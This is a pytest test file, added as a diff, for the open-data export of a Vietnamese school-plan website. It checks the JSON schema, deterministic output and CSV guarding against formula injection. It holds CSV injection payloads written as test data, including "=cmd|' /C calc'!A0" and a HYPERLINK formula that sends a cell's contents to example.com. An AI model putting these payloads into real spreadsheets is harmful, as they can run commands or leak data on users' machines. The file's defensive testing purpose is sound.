@@ -1,0 +1,427 @@
+"""Open data: each plan and the whole site as JSON (valid against its schema) and CSV (one row per
+measure, opens in Excel, no cell runs as a formula), deterministic, hostile text kept as data."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import shutil
+import subprocess
+import unicodedata
+import zipfile
+from pathlib import Path
+
+import jsonschema
+import pytest
+from conftest import REPO, write_files
+from ruamel.yaml import YAML
+from test_injection import EVIL
+
+from qip_site import opendata
+from qip_site.opendata import MEASURE_COLUMNS, SCHEMA_FILE, guard, unguard
+from qip_site.schema import CELL_FIELDS
+from qip_site.validate import load_site
+
+# Cells a spreadsheet would run, or that look like one: OWASP's examples and the plans' own bullets.
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://example.com/?x=\"&A1,\"Bấm vào đây\")",
+    "+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "-2+3",
+    "- Tham mưu, đề xuất phân bổ chỉ tiêu tuyển sinh phù hợp.",
+    "-Hiệu trưởng, chủ tịch công đoàn trường, kế toán.",
+    "\t=1+1",
+    " =1+1",
+    "=1+1",
+    "'=1+1",
+    "＝1+1",
+    "1.10",
+    "7.000.000",
+    "2/9",
+    "Giá \"đặc biệt\", có dấu phẩy; và dấu chấm phẩy",
+    "dòng một\ndòng hai",
+]
+# Control characters a plan file may not hold (the check refuses them), guarded all the same.
+CONTROL = ["\r=1+1", "\n=1+1", "\0=1+1", "dòng một\r\ndòng hai"]
+HOSTILE = EVIL + FORMULAS
+DECOMPOSED = unicodedata.normalize("NFD", "Trường Mầm non Hoa Sen Đồng Nai")
+# A formula can start after leading whitespace in some importers: look past it.
+TRIGGERS = tuple("=+-@|%\uff1d\uff0b\uff0d\uff20")
+
+
+def dump(data) -> str:
+    yaml = YAML(typ="safe")
+    yaml.default_flow_style = False
+    yaml.allow_unicode = True
+    out = io.StringIO()
+    yaml.dump(data, out)
+    return out.getvalue()
+
+
+def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
+    with path.open(encoding="utf-8-sig", newline="") as f:
+        reader = csv.DictReader(f)
+        return list(reader.fieldnames or []), list(reader)
+
+
+def measures_count(plan) -> int:
+    """From the model: a row split by year is one measure per year; any other row is one measure."""
+    return sum(len(row.row.years) or 1 for row in plan.rows())
+
+
+def validator() -> jsonschema.Draft202012Validator:
+    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
+    jsonschema.Draft202012Validator.check_schema(schema)
+    return jsonschema.Draft202012Validator(schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
+
+
+# ---------------------------------------------------------------------------------------------
+# The real plans
+
+
+@pytest.fixture(scope="module")
+def real(tmp_path_factory):
+    site, _ = load_site(REPO / "plans", REPO)
+    out = tmp_path_factory.mktemp("opendata") / "site"
+    written = opendata.write_site_data(site, out, "CC BY 4.0")
+    return site, out, written
+
+
+def test_files_are_written_where_the_pages_link_them(real) -> None:
+    site, out, written = real
+    expected = {out / "du-lieu" / name for name in ("plans.json", "measures.csv", "plans-data.schema.json")}
+    for plan in site.plans:
+        folder = out / "truong" / plan.school.slug / f"ke-hoach-{plan.slug}"
+        expected |= {folder / "ke-hoach.json", folder / "ke-hoach.csv"}
+    assert set(written) == expected
+    assert all(path.is_file() for path in expected)
+    assert (out / "du-lieu" / "plans-data.schema.json").read_bytes() == SCHEMA_FILE.read_bytes()
+
+
+def test_data_files_satisfy_their_schema(real) -> None:
+    site, out, _ = real
+    check = validator()
+    files = [out / "du-lieu" / "plans.json"] + list((out / "truong").glob("*/*/ke-hoach.json"))
+    assert len(files) == len(site.plans) + 1
+    for file in files:
+        data = json.loads(file.read_text(encoding="utf-8"))
+        errors = [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in check.iter_errors(data)]
+        assert not errors, f"{file}: {errors[:5]}"
+        # The schema reference resolves, from the file itself, to the published schema.
+        assert (file.parent / data["schema"]).resolve() == (out / "du-lieu" / "plans-data.schema.json").resolve()
+        assert data["licence"] == "CC BY 4.0" and data["licence_url"].startswith("https://creativecommons.org/")
+
+
+def test_every_plan_is_there_with_its_rows(real) -> None:
+    site, out, _ = real
+    data = json.loads((out / "du-lieu" / "plans.json").read_text(encoding="utf-8"))
+    assert data["generated_from"] == "plans/"
+    assert [(p["school"]["slug"], p["plan"]) for p in data["plans"]] == [(p.school.slug, p.slug) for p in site.plans]
+    assert len(data["plans"]) == len(list((REPO / "plans").glob("*/*.yml"))) - len(site.schools)
+    for plan, entry in zip(site.plans, data["plans"]):
+        rows = list(plan.rows())
+        assert [r["code"] for r in entry["rows"]] == [r.row.code for r in rows]
+        assert [len(r["years"]) for r in entry["rows"]] == [len(r.row.years) for r in rows]
+        assert entry["file"] == plan.file and entry["title"] == list(plan.data.title)
+        # The per-plan file holds the same plan.
+        own = json.loads((out / entry["urls"]["json"]).read_text(encoding="utf-8"))
+        assert own["plans"] == [entry] and own["generated_from"] == plan.file
+
+
+def test_seed_001_as_written_and_derived(real) -> None:
+    _, out, _ = real
+    data = json.loads((out / "du-lieu" / "plans.json").read_text(encoding="utf-8"))
+    plan = next(p for p in data["plans"] if p["school"]["slug"] == "truong-trung-hoc-chua-ro-ten")
+    assert plan["school"]["name_as_written"] is None
+    assert plan["school"]["name"] == "Trường trung học (tên không ghi trong văn bản)"
+    assert plan["period"] == {"first": "2024-2025", "last": "2028-2029",
+                              "years": ["2024-2025", "2025-2026", "2026-2027", "2027-2028", "2028-2029"],
+                              "annual": False}
+    row = next(r for r in plan["rows"] if r["code"] == "3.2")
+    assert row["budget"] == {"text": "300.000.000 đồng", "vnd": 300000000, "per_school_year": False}
+    assert row["cells"]["budget"] == ["300.000.000 đồng"]
+    assert row["cells"]["target"] == ["Tu bổ, sửa chữa đèn, quạ tại 02 cơ sơ"]
+    assert row["standard_number"] == 3 and row["standard_heading"] == "Tiêu chuẩn 3: Cơ sở vật chất và thiết bị dạy học"
+    assert row["criterion_title"]  # the circular's title, added by the site
+    assert row["url"] == "truong/truong-trung-hoc-chua-ro-ten/ke-hoach-2024-2029/#tieu-chi-3-2"
+    # The same measure in the site's CSV and in the plan's own CSV.
+    for file in (out / "du-lieu" / "measures.csv", out / plan["urls"]["csv"]):
+        _, rows = read_csv(file)
+        line = next(r for r in rows if r["school"] == "truong-trung-hoc-chua-ro-ten" and unguard(r["criterion"]) == "3.2")
+        assert line["budget_text"] == "300.000.000 đồng" and line["budget_vnd"] == "300000000"
+        assert line["standard"] == "3" and line["school_year"] == "" and line["period"] == "2024-2025 đến 2028-2029"
+        assert line["url"] == row["url"]
+
+
+def test_thuy_tien_dates_and_years(real) -> None:
+    _, out, _ = real
+    data = json.loads((out / "du-lieu" / "plans.json").read_text(encoding="utf-8"))
+    plan = next(p for p in data["plans"] if p["school"]["slug"] == "mn-thuy-tien")
+    assert plan["number"] == "237/KH-MNTT" and plan["header"]["number"] == "Số:  237/KH-MNTT"
+    assert plan["date"] == "2022-09-06" and plan["header"]["date"] is None
+    row = next(r for r in plan["rows"] if r["code"] == "1.3")
+    assert [y["school_year"] for y in row["years"]] == ["2022-2023", "2023-2024", "2024-2025", "2025-2026", "2026-2027"]
+    assert row["cells"]["measures"] == ["* Kế hoạch cải tiến chất lượng trong báo cáo tự đánh giá:"]
+    _, lines = read_csv(out / "du-lieu" / "measures.csv")
+    split = [r for r in lines if r["school"] == "mn-thuy-tien" and unguard(r["criterion"]) == "1.3"]
+    assert [r["school_year"] for r in split] == [y["school_year"] for y in row["years"]]
+    # The row's own cells stand on each year's line, before that year's measure.
+    assert split[2]["measures"] == "* Kế hoạch cải tiến chất lượng trong báo cáo tự đánh giá:\nTạo điều kiện cho 3 giáo viên học lớp sơ cấp chính trị"
+    assert all(r["responsible"].startswith("Các thành viên của tổ chức Đảng") for r in split)
+
+
+def test_measures_csv_opens_in_excel(real) -> None:
+    site, out, _ = real
+    raw = (out / "du-lieu" / "measures.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf\"school\",\"school_name\"")
+    header_line = raw[3:raw.index(b"\r\n")].decode("utf-8")
+    assert header_line == ",".join(f'"{name}"' for name in MEASURE_COLUMNS)
+    # CRLF ends every record: after a record's closing quote, a line break is always CRLF.
+    assert not re.search(rb'"\n', raw) and raw.endswith(b'"\r\n')
+    header, rows = read_csv(out / "du-lieu" / "measures.csv")
+    assert header == list(MEASURE_COLUMNS)
+    assert len(rows) == sum(measures_count(plan) for plan in site.plans)
+    assert all(len(row) == len(MEASURE_COLUMNS) and None not in row for row in rows)
+    # The site's CSV is the plans' CSVs one after the other.
+    per_plan = [row for plan in site.plans
+                for row in read_csv(out / "truong" / plan.school.slug / f"ke-hoach-{plan.slug}" / "ke-hoach.csv")[1]]
+    assert per_plan == rows
+    for plan in site.plans:
+        _, own = read_csv(out / "truong" / plan.school.slug / f"ke-hoach-{plan.slug}" / "ke-hoach.csv")
+        assert len(own) == measures_count(plan), plan.file
+
+
+def assert_no_formula(rows: list[dict[str, str]]) -> int:
+    """Every cell is guarded, a plain number we derived, or starts with no formula character."""
+    guarded = 0
+    for row in rows:
+        for name, cell in row.items():
+            if cell.startswith("'"):
+                guarded += 1
+                continue
+            if name in ("standard", "budget_vnd"):
+                assert cell == "" or cell.isdigit(), (name, cell)
+                continue
+            assert not cell.lstrip().startswith(TRIGGERS), (name, cell)
+            assert not cell.startswith(("\t", "\r", "\n")), (name, cell)
+            assert not opendata._NUMBER_LIKE_RE.fullmatch(cell), (name, cell)
+    return guarded
+
+
+def test_no_cell_of_the_real_plans_runs_as_a_formula(real) -> None:
+    site, out, _ = real
+    _, rows = read_csv(out / "du-lieu" / "measures.csv")
+    assert assert_no_formula(rows) > 0
+    # The plans have many "- …" bullets: each is guarded, and reads back as written.
+    bullets = [row["responsible"] for row in rows if unguard(row["responsible"]).startswith("-")]
+    assert bullets and all(b.startswith("'-") for b in bullets)
+    expected = [line for plan in site.plans for line in opendata.measures_rows(plan)]
+    for line, row in zip(expected, rows, strict=True):
+        for name in MEASURE_COLUMNS:
+            value = line[name]
+            if isinstance(value, str):
+                assert unguard(row[name]) == value, (name, row[name])
+
+
+def test_output_is_deterministic(real, tmp_path: Path) -> None:
+    _, out, written = real
+    again = opendata.write_site_data(load_site(REPO / "plans", REPO)[0], tmp_path / "again", "CC BY 4.0")
+    assert [p.relative_to(tmp_path / "again") for p in again] == [p.relative_to(out) for p in written]
+    for first, second in zip(written, again):
+        assert first.read_bytes() == second.read_bytes(), first
+    text = (out / "du-lieu" / "plans.json").read_text(encoding="utf-8")
+    assert unicodedata.is_normalized("NFC", text)
+    assert not re.search(r"20\d\d-\d\d-\d\dT\d\d:", text)  # no build timestamp
+
+
+# ---------------------------------------------------------------------------------------------
+# Hostile text
+
+
+def hostile_plan() -> dict:
+    return {
+        "period": {"from": "2023-2024", "to": "2024-2025"},
+        "header": {"managing_body": HOSTILE[0], "school": "=HYPERLINK(\"http://x\")", "number": "Số: -2+3",
+                   "place_date": "Quận 1, ngày 2 tháng 9 năm 2023"},
+        "title": HOSTILE,
+        "sections": [{"heading": "@SUM(1)", "content": HOSTILE + [{"heading": "=1+1"}]},
+                     {"heading": "III. Bảng", "table": True}],
+        "table": {
+            "columns": {"criterion": "=1+1", "weakness": "Điểm yếu", "target": "+1", "measures": "- Biện pháp",
+                        "responsible": "@x", "timeline": "Thời gian", "budget": "Kinh phí", "support": "Hỗ trợ",
+                        "note": "Ghi chú"},
+            "standards": [{"heading": "Tiêu chuẩn 1: =cmd|' /C calc'!A0", "criteria": [
+                {"code": "1.1", "criterion": HOSTILE, **{name: HOSTILE for name in
+                                                          ("weakness", "target", "measures", "note")},
+                 "responsible": "- Tham mưu", "timeline": "=1+1", "budget": "30.000.000", "support": "+1"},
+                {"code": "1.2", "criterion": "Tiêu chí 1.2", "measures": "-2+3", "budget": "3 triệu/NH",
+                 "years": [{"school_year": "2023-2024", "measures": HOSTILE, "responsible": "=1+1"},
+                           {"school_year": "2024-2025", "measures": "@SUM(1)", "timeline": "\t=1+1"}]},
+                {"code": "1.3", "criterion": "Tiêu chí 1.3", "budget": "30.000.000 đồng",
+                 "years": [{"school_year": "2023-2024", "measures": "- Việc năm đầu"},
+                           {"school_year": "2024-2025", "measures": "- Việc năm sau"}]},
+                {"code": "1.4", "criterion": "Tiêu chí 1.4", "measures": "Chung",
+                 "years": [{"school_year": "2023-2024", "budget": "5.000.000"},
+                           {"school_year": "2024-2025", "budget": "=1+1"}]},
+            ]}],
+        },
+        "closing": HOSTILE,
+        "recipients": ["- Lưu VT.", "=1+1"],
+        "signer": {"position": "@HIỆU TRƯỞNG", "note": "+(Đã ký)", "name": "-Nguyễn Văn A"},
+    }
+
+
+HOSTILE_SCHOOL = {"name": "=HYPERLINK(\"http://x\") " + DECOMPOSED, "level": "preschool",
+                  "managing_body": "+UBND", "place": {"as_written": "- Quận 1", "province": "@Thành phố",
+                                                      "commune": "=1+1"}}
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    root = tmp_path_factory.mktemp("hostile")
+    write_files(root, {"plans/mn-a/school.yml": dump(HOSTILE_SCHOOL), "plans/mn-a/2023-2025.yml": dump(hostile_plan())})
+    site, _ = load_site(root / "plans", root)
+    out = root / "site"
+    opendata.write_site_data(site, out, "Giấy phép <b>riêng</b> =1+1")
+    return site, out
+
+
+def test_hostile_text_is_json_data(hostile) -> None:
+    _, out = hostile
+    text = (out / "du-lieu" / "plans.json").read_text(encoding="utf-8")
+    assert "<" not in text and ">" not in text  # inert even if embedded in a page
+    data = json.loads(text)
+    assert not list(validator().iter_errors(data))
+    assert data["licence"] == "Giấy phép <b>riêng</b> =1+1" and data["licence_url"] is None
+    plan = data["plans"][0]
+    assert plan["title"] == HOSTILE and plan["closing"] == HOSTILE
+    assert plan["sections"][0]["content"] == HOSTILE + [{"heading": "=1+1"}]
+    row = plan["rows"][0]
+    for name in ("criterion", "weakness", "target", "measures", "note"):
+        assert row["cells"][name] == HOSTILE
+    assert row["cells"]["responsible"] == ["- Tham mưu"] and row["cells"]["timeline"] == ["=1+1"]
+    assert plan["rows"][1]["years"][0]["cells"]["measures"] == HOSTILE
+    assert plan["rows"][1]["years"][1]["cells"]["timeline"] == ["\t=1+1"]
+    assert plan["header"]["school"] == "=HYPERLINK(\"http://x\")" and plan["signer"]["name"] == "-Nguyễn Văn A"
+    assert plan["school"]["name"] == unicodedata.normalize("NFC", HOSTILE_SCHOOL["name"])
+    assert plan["school"]["place"] == HOSTILE_SCHOOL["place"]
+    assert {"field": "criterion", "heading": "=1+1"} in plan["columns"]
+
+
+def test_hostile_text_is_csv_data(hostile) -> None:
+    site, out = hostile
+    header, rows = read_csv(out / "du-lieu" / "measures.csv")
+    assert header == list(MEASURE_COLUMNS)
+    assert len(rows) == measures_count(site.plans[0]) == 7
+    assert_no_formula(rows)
+    first = rows[0]
+    joined = "\n".join(HOSTILE)
+    for name in ("criterion_as_written", "weakness", "target", "measures", "note"):
+        assert unguard(first[name]) == joined
+        assert first[name] == guard(joined)
+    assert first["responsible"] == "'- Tham mưu" and first["timeline"] == "'=1+1" and first["support"] == "'+1"
+    assert first["budget_text"] == "'30.000.000" and first["budget_vnd"] == "30000000"
+    assert first["school_name"] == "'" + unicodedata.normalize("NFC", HOSTILE_SCHOOL["name"])
+    assert first["district_as_written"] == "'- Quận 1" and first["province"] == "'@Thành phố"
+    assert first["commune"] == "'=1+1"
+    # Each formula, alone in a cell, comes back guarded, and as written once unguarded.
+    split = rows[1:3]
+    assert [r["school_year"] for r in split] == ["2023-2024", "2024-2025"]
+    assert unguard(split[0]["measures"]) == "-2+3\n" + joined and split[0]["measures"].startswith("'-2+3")
+    assert split[0]["responsible"] == "'=1+1"
+    assert split[1]["measures"] == "'-2+3\n@SUM(1)" and split[1]["timeline"] == "'\t=1+1"
+
+
+def test_budget_is_counted_once(hostile) -> None:
+    _, out = hostile
+    _, rows = read_csv(out / "du-lieu" / "measures.csv")
+    by_code = {}
+    for row in rows:
+        by_code.setdefault(unguard(row["criterion"]), []).append(row)
+    # "3 triệu/NH" is an amount for each school year: on each year's line.
+    assert [(r["budget_text"], r["budget_vnd"], r["budget_per_school_year"]) for r in by_code["1.2"]] == \
+        [("3 triệu/NH", "3000000", "true")] * 2
+    # One sum for the whole row: shown on each line, counted on the first.
+    assert [(r["budget_text"], r["budget_vnd"]) for r in by_code["1.3"]] == \
+        [("30.000.000 đồng", "30000000"), ("30.000.000 đồng", "")]
+    # Each year's own budget on its own line.
+    assert [(r["budget_text"], r["budget_vnd"]) for r in by_code["1.4"]] == [("'5.000.000", "5000000"), ("'=1+1", "")]
+
+
+def test_each_formula_is_guarded() -> None:
+    for text in FORMULAS + CONTROL:
+        cell = guard(text)
+        assert unguard(cell) == text
+        if text[0] not in "Gd":  # the ordinary texts
+            assert cell == "'" + text, text
+    for text in ("Tiêu chí 1.1", "2024-2025", "Năm học 2024-2025", "300.000.000 đồng", "* Kế hoạch", ""):
+        assert guard(text) == text
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
+def test_libreoffice_opens_the_csv_without_formulas(hostile, tmp_path: Path) -> None:
+    """The real check when LibreOffice is there: open the CSV as a user would (UTF-8, Vietnamese
+    locale, formulas evaluated, special numbers detected) and look for any formula or number."""
+    _, out = hostile
+    shutil.copy(out / "du-lieu" / "measures.csv", tmp_path / "measures.csv")
+    options = "CSV:44,34,76,1,,1066,false,true,false,false,false,-1,true"
+    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
+                    f"--infilter={options}", "--convert-to", "ods", "--outdir", str(tmp_path),
+                    str(tmp_path / "measures.csv")], check=True, capture_output=True, timeout=180)
+    content = zipfile.ZipFile(tmp_path / "measures.ods").read("content.xml").decode("utf-8")
+    assert "table:formula" not in content
+    types = set(re.findall(r'office:value-type="(\w+)"', content))
+    assert types <= {"string", "float"}, types
+    # The only numbers are the ones we derive (budget_vnd, standard).
+    floats = re.findall(r'office:value-type="float" [^>]*office:value="([^"]+)"', content)
+    assert set(floats) <= {"1", "30000000", "3000000", "5000000"}, floats
+    assert "Tham mưu" in content and "Bấm vào đây" in content
+
+
+# ---------------------------------------------------------------------------------------------
+# Documentation
+
+
+def test_schema_documents_every_field_in_vietnamese() -> None:
+    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
+    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
+
+    def walk(node, where):
+        if isinstance(node, dict):
+            for name, value in node.get("properties", {}).items():
+                assert "description" in value or "$ref" in value and "description" in resolve(value["$ref"]), where + name
+            for key, value in node.items():
+                walk(value, f"{where}{key}/")
+        elif isinstance(node, list):
+            for item in node:
+                walk(item, where)
+
+    def resolve(ref):
+        node = schema
+        for part in ref.removeprefix("#/").split("/"):
+            node = node[part]
+        return node
+
+    walk(schema, "/")
+    assert "Số tiền (đồng)" in schema["$defs"]["budget"]["properties"]["vnd"]["description"]
+    assert set(schema["$defs"]["cells"]["properties"]) == set(CELL_FIELDS)
+
+
+def test_data_page_documents_files_columns_and_licence() -> None:
+    page = (REPO / "docs" / "du-lieu.md").read_text(encoding="utf-8")
+    for name in MEASURE_COLUMNS:
+        assert f"`{name}`" in page, name
+    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
+    for name in list(schema["properties"]) + list(schema["$defs"]["plan"]["properties"]):
+        assert f"`{name}`" in page, name
+    for file in ("plans.json", "measures.csv", "ke-hoach.json", "ke-hoach.csv", "plans-data.schema.json"):
+        assert file in page
+    # The licence set in mkdocs.yml replaces the default between the markers.
+    assert f"{opendata.LICENCE_START}{opendata.licence_markdown('CC BY 4.0')}{opendata.LICENCE_END}" in page
+    filled = opendata.fill_licence(page, "CC0 1.0")
+    assert "publicdomain/zero/1.0" in filled and "licenses/by/4.0" not in filled
+    assert "&lt;b&gt;" in opendata.fill_licence(page, "<b>x</b>")
